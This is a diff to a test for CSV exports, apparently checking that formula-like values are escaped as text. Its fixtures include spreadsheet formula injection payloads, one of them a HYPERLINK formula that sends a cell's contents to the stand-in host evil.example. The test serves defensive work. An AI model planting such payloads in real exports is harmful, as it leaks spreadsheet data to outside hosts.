@@ -35,7 +35,10 @@ describe('CSV exports', () => {
 
   it('writes text a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
     const { orm, pool } = context.database;
-    const member = await createMember(orm, { firstName: '=HYPERLINK("http://evil.example/?x="&E2,"Click")', lastName: '@SUM(1+1)' });
+    const member = await createMember(orm, {
+      firstName: '=HYPERLINK("http://evil.example/?x="&E2,"Click")',
+      lastName: '@SUM(1+1)',
+    });
     await earnPoints(orm, { memberId: member.id, amount: 20, source: 'code', reason: '+cmd', expiresAt: LATER });
     await spendPoints(orm, { memberId: member.id, amount: 5, source: 'redemption', reason: '-2+3' });
 
